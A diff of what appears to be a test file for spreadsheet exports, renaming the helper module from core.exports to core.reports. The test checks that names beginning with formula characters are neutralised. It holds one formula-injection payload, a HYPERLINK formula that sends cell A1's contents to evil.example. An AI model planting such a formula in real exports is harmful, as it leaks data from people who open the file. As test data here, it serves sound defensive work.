@@ -1,5 +1,5 @@
 """Spreadsheet exports never write a name as a formula: CSV text cells starting with = + - @ get an
-apostrophe, XLSX stores them as text (the settlement is the export; core.exports is its one helper)."""
+apostrophe, XLSX stores them as text (the settlement is the export; core.reports holds the one helper)."""
 from __future__ import annotations
 
 import csv
@@ -9,7 +9,7 @@ from openpyxl import load_workbook
 
 from core.db import commit, db
 from core.catalogue.models import Producer
-from core.exports import append_row, csv_bytes, safe_text
+from core.reports import append_row, csv_bytes, safe_text
 from test_sales_points_settlement import period, settle  # noqa: F401
 
 EVIL_PRODUCER = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào")'
